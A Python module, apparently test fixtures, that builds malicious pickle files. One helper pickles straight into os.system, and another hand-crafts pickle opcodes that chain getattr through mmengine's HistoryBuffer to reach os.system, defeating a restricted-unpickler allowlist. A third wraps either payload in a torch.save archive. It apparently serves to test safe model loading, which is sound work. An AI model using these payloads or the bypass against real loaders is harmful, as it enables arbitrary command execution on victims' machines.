"""Files that would run a command if a reader let them."""

import io
import os
import struct
import zipfile

import torch


class Evil:
    """Pickles to ``os.system(command)``."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def getattr_pickle(command):
    """Pickle that runs a command if ``getattr`` and ``HistoryBuffer`` may be called, as mmengine lets them be.

    A buffer takes over its module's globals, leads on to ``os.system``, which becomes the ``array`` of a second
    one, which becomes ``np`` in these globals: then ``HistoryBuffer(command, command)`` calls ``np.array``.
    """

    def text(value):
        return b'X' + struct.pack('<I', len(value)) + value.encode()

    def attribute(owner, *names):
        for name in names:
            owner = b'cbuiltins\ngetattr\n' + owner + text(name) + b'\x86R'
        return owner

    buffer = b'cmmengine.logging.history_buffer\nHistoryBuffer\n'
    namespace = attribute(buffer, '__init__', '__globals__')
    system = attribute(b'h\x01', 'np', 'lib', '_datasource', 'os', 'system')
    steps = (
        buffer + b')R' + namespace + b'bq\x01',
        buffer + b')R}' + text('array') + system + b'sbq\x02',
        namespace + text('np') + b'h\x02s',
        buffer + text(command) * 2 + b'\x86R',
    )
    return b'\x80\x02}' + text('model') + b']' + b''.join(step + b'a' for step in steps) + b's.'


def with_pickle(data):
    """A torch.save archive around a pickle of one's own."""
    plain, evil = io.BytesIO(), io.BytesIO()
    torch.save({}, plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(evil, 'w') as target:
        for item in source.infolist():
            target.writestr(item.filename, data if item.filename.endswith('data.pkl') else source.read(item.filename))
    return evil.getvalue()


def saved(value):
    file = io.BytesIO()
    torch.save(value, file)
    return file.getvalue()
